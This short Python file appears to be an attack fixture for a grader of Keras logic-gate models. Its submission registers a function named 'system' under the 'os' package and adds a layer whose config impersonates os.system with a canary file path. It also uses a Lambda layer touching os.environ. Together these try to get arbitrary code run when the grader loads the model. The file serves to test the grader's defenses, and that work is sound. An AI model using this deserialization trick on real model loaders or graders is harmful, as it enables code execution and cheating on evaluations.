# /// attack
# title = "Hands in models with Lambda layers, own activations and initializers, and asks for code and files to be loaded"
# exercise = "gates"
# says = ["does not follow from its weights"]
# ///

# %%
import os

import keras


@keras.saving.register_keras_serializable(package="os")
def system(x):
    return keras.ops.sum(x, -1, keepdims=True)


class Reads(keras.layers.Layer):
    def call(self, x):
        return keras.ops.cast(keras.ops.sum(x, -1, keepdims=True) > 0.5, "float32")

    def get_config(self):
        return {"module": "os", "class_name": "system", "config": {"path": "@CANARY_FILE@"}, "registered_name": "os>system"}


# %%
print("TRIED to have its code run by the grader")


def train_gate(name, seed):
    x = keras.Input((2,))
    low = keras.layers.Lambda(lambda t: os.environ and t * 0 + 1)(x)
    out = keras.layers.Dense(1, activation=system, kernel_initializer="zeros")(low)
    return keras.Model(x, Reads()(x) + 0 * out)
